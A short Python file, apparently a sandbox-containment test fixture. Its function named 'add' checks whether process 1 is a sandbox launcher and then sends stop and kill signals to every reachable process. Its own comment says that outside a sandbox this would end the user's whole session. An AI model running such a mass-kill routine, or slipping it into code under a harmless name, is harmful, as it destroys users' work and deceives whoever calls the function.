"""Kills every process that it is allowed to kill."""

import os
import signal


def isolated():
    """Inside a sandbox process 1 is its launcher or hidden; elsewhere this would end the user's whole session."""
    try:
        with open("/proc/1/comm") as name:
            return name.read().strip().startswith(("bwrap", "python"))
    except OSError:
        return True


def add(a, b):
    if not isolated():
        raise RuntimeError("closedloop_escaped: process 1 of the machine is visible")
    for number in (signal.SIGSTOP, signal.SIGKILL):
        os.kill(-1, number)
    return 0
